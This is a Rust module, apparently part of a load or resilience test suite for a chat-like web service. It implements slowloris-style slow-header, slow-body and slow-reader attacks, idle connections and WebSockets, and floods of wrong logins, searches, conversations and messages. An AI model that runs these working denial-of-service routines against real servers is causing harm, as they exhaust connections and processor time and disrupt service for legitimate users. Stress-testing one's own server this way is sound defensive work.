//! The attacks. Each of their connections is a task, which connects again when the server closes
//! the connection.
//!
//! The attacks are those of `slowhttptest` (slow headers, slow body, slow read:
//! <https://github.com/shekyan/slowhttptest/wiki>), connections that send nothing at all,
//! WebSockets that send nothing after the handshake, and floods: of logins with a wrong password, each
//! of which would cost tens of milliseconds of a processor and 19 MiB, of searches, of new
//! conversations and of messages.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result};
use fastrand::Rng;
use protocol::WorkerId;
use socket2::{Domain, Socket, Type};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, Interest};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;

use crate::client::Client;
use crate::companion::HANG;
use crate::seed;

/// The time between two bytes of a slow sender. `slowhttptest` sends one every few seconds.
const PAUSE: Duration = Duration::from_secs(1);
/// The receive buffer of a slow reader's socket.
const RECEIVE_BYTES: usize = 4096;
/// The most connections that are being opened at the same time; more would only wait in the
/// system's queue.
const AT_ONCE: usize = 64;

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    SlowBodies,
    SlowForms,
    SlowFiles,
    SlowHeads,
    Idle,
    SlowReaders,
    IdleWebSockets,
    Logins,
    Searches,
    Conversations,
    Messages,
}

/// Whom an attack is for.
#[derive(Clone, Debug)]
pub(super) struct Target {
    pub(super) address: SocketAddr,
    /// Conversations of the attacker's account, at least one.
    pub(super) workers: Vec<WorkerId>,
    /// The attacker's cookies; empty for a server that needs no login.
    pub(super) cookies: String,
}

/// A running attack.
pub(super) struct Crowd {
    tasks: JoinSet<()>,
    /// The number of connections that are currently open.
    open: Arc<AtomicUsize>,
}

/// An open connection, counted until it is dropped.
struct Held(Arc<AtomicUsize>);

impl Attack {
    /// What a member can do to the others.
    pub(super) const BY_MEMBER: [Self; 5] = [
        Self::IdleWebSockets,
        Self::SlowReaders,
        Self::Searches,
        Self::Conversations,
        Self::Messages,
    ];

    pub(super) const ALL: [Self; 11] = [
        Self::SlowBodies,
        Self::SlowForms,
        Self::SlowFiles,
        Self::SlowHeads,
        Self::Idle,
        Self::SlowReaders,
        Self::IdleWebSockets,
        Self::Logins,
        Self::Searches,
        Self::Conversations,
        Self::Messages,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::SlowBodies => "slow bodies to the interface",
            Self::SlowForms => "slow forms to the page",
            Self::SlowFiles => "slow files to /data",
            Self::SlowHeads => "slow heads",
            Self::Idle => "idle connections",
            Self::SlowReaders => "slow readers of a page",
            Self::IdleWebSockets => "idle WebSockets",
            Self::Logins => "wrong logins each second",
            Self::Searches => "searches each second",
            Self::Conversations => "new conversations each second",
            Self::Messages => "messages each second",
        }
    }

    /// Whether the attack holds its connections. A flood makes one request with each, and then pauses.
    pub(super) fn holds(self) -> bool {
        !self.is_flood()
    }

    fn is_flood(self) -> bool {
        matches!(self, Self::Logins | Self::Searches | Self::Conversations | Self::Messages)
    }

    /// Whether the attack takes the places for connections; the others take those for requests.
    pub(super) fn fills_connections(self) -> bool {
        matches!(self, Self::SlowHeads | Self::Idle)
    }

    /// Begins with `count` connections; returns once each of them has sent its first bytes.
    pub(super) async fn begin(self, target: Target, count: usize) -> Result<Crowd> {
        let ready = Arc::new(Semaphore::new(0));
        let gate = Arc::new(Semaphore::new(AT_ONCE));
        let target = Arc::new(target);
        let open = Arc::new(AtomicUsize::new(0));
        let mut tasks = JoinSet::new();
        for number in 0..count {
            let (ready, gate, target) = (ready.clone(), gate.clone(), target.clone());
            let open = open.clone();
            tasks.spawn(async move {
                let mut first = Some(ready);
                loop {
                    // When the server has closed the connection, a new one is opened. `Crowd::open`
                    // tells whether enough of them are open.
                    let _ = self.hold(&target, number, &gate, &open, &mut first).await;
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        let all = ready.acquire_many(u32::try_from(count)?);
        // If the server accepts no more connections, the remaining tasks keep trying during the
        // attack.
        let _ = tokio::time::timeout(HANG / 12, all).await;
        Ok(Crowd { tasks, open })
    }

    /// The bytes that connection `number` sends immediately.
    fn head(self, target: &Target, number: usize) -> Vec<u8> {
        let Target { address, workers, cookies } = target;
        let worker = workers[number % workers.len()];
        let path = Client::path(worker);
        let always = match cookies.as_str() {
            "" => format!("host: {address}\r\n"),
            cookies => format!("host: {address}\r\ncookie: {cookies}\r\n"),
        };
        let slow = |path: &str, kind: &str| {
            format!(
                "POST {path} HTTP/1.1\r\n{always}content-type: {kind}\r\n\
                 content-length: 100000\r\n\r\n"
            )
        };
        let post = |path: &str, body: &str| {
            let length = body.len();
            format!(
                "POST {path} HTTP/1.1\r\n{always}connection: close\r\n\
                 content-type: application/json\r\ncontent-length: {length}\r\n\r\n{body}"
            )
        };
        let workers = "/api/v1/runtimes/backend-internal/workers";
        let head = match self {
            Self::SlowBodies => slow(&format!("{path}/messages"), "application/json"),
            Self::SlowForms => slow(&format!("/c/{worker}"), "application/x-www-form-urlencoded"),
            Self::SlowFiles => slow("/data", "multipart/form-data; boundary=x"),
            Self::SlowHeads => "GET / HTTP/1.1\r\nx-slow: ".to_owned(),
            Self::Idle => String::new(),
            Self::SlowReaders => format!("GET /c/{worker} HTTP/1.1\r\n{always}\r\n"),
            Self::IdleWebSockets => format!(
                "GET {path}/events HTTP/1.1\r\n{always}connection: upgrade\r\n\
                 upgrade: websocket\r\nsec-websocket-version: 13\r\n\
                 sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
            ),
            Self::Logins => {
                post("/api/v1/session", r#"{"name":"owner","password":"a wrong password"}"#)
            }
            Self::Searches => format!(
                "GET /api/v1/runtimes/backend-internal/search?q=message+a+b+c+d+e+f HTTP/1.1\r\n\
                 {always}connection: close\r\n\r\n"
            ),
            Self::Conversations => post(workers, "{}"),
            Self::Messages => {
                let id = seed::message_id(&mut Rng::new());
                post(&format!("{path}/messages"), &format!(r#"{{"id":"{id}","text":"again"}}"#))
            }
        };
        head.into_bytes()
    }

    /// Holds one connection until the server closes it.
    async fn hold(
        self,
        target: &Target,
        number: usize,
        gate: &Semaphore,
        open: &Arc<AtomicUsize>,
        first: &mut Option<Arc<Semaphore>>,
    ) -> Result<()> {
        let mut stream = {
            let _turn = gate.acquire().await?;
            let mut stream = self.connect(target.address).await?;
            stream.write_all(&self.head(target, number)).await?;
            stream
        };
        let _held = Held::new(open);
        if let Some(ready) = first.take() {
            ready.add_permits(1);
        }
        match self {
            Self::SlowBodies | Self::SlowForms | Self::SlowFiles | Self::SlowHeads => loop {
                tokio::time::sleep(PAUSE).await;
                stream.write_all(b"x").await?;
                // Any response, and the end of the connection, means that the server refuses the
                // attack.
                if stream.try_read(&mut [0; 512]).is_ok() {
                    return Ok(());
                }
            },
            Self::Logins | Self::Searches | Self::Conversations | Self::Messages => {
                tokio::io::copy(&mut stream, &mut tokio::io::sink()).await?;
                Ok(())
            }
            Self::Idle => {
                stream.read_u8().await.context("the server closed the connection")?;
                Ok(())
            }
            Self::SlowReaders | Self::IdleWebSockets => loop {
                tokio::time::sleep(PAUSE).await;
                if self == Self::SlowReaders && stream.read_u8().await.is_err() {
                    return Ok(());
                }
                // Nothing is read, so only the socket's state shows that the server has closed it.
                let state = stream.ready(Interest::READABLE | Interest::WRITABLE).await?;
                if self == Self::IdleWebSockets && state.is_read_closed() {
                    return Ok(());
                }
            },
        }
    }

    async fn connect(self, address: SocketAddr) -> Result<TcpStream> {
        let socket = Socket::new(Domain::for_address(address), Type::STREAM, None)?;
        if self == Self::SlowReaders {
            socket.set_recv_buffer_size(RECEIVE_BYTES)?;
        }
        socket.set_nonblocking(true)?;
        let socket = TcpSocket::from_std_stream(socket.into());
        Ok(socket.connect(address).await?)
    }
}

impl Crowd {
    /// The number of connections that are currently open.
    pub(super) fn open(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }

    /// Ends the attack; returns once all of its connections are closed.
    pub(super) async fn end(mut self) {
        self.tasks.shutdown().await;
    }
}

impl Held {
    fn new(open: &Arc<AtomicUsize>) -> Self {
        open.fetch_add(1, Ordering::Relaxed);
        Self(open.clone())
    }
}

impl Drop for Held {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::Relaxed);
    }
}
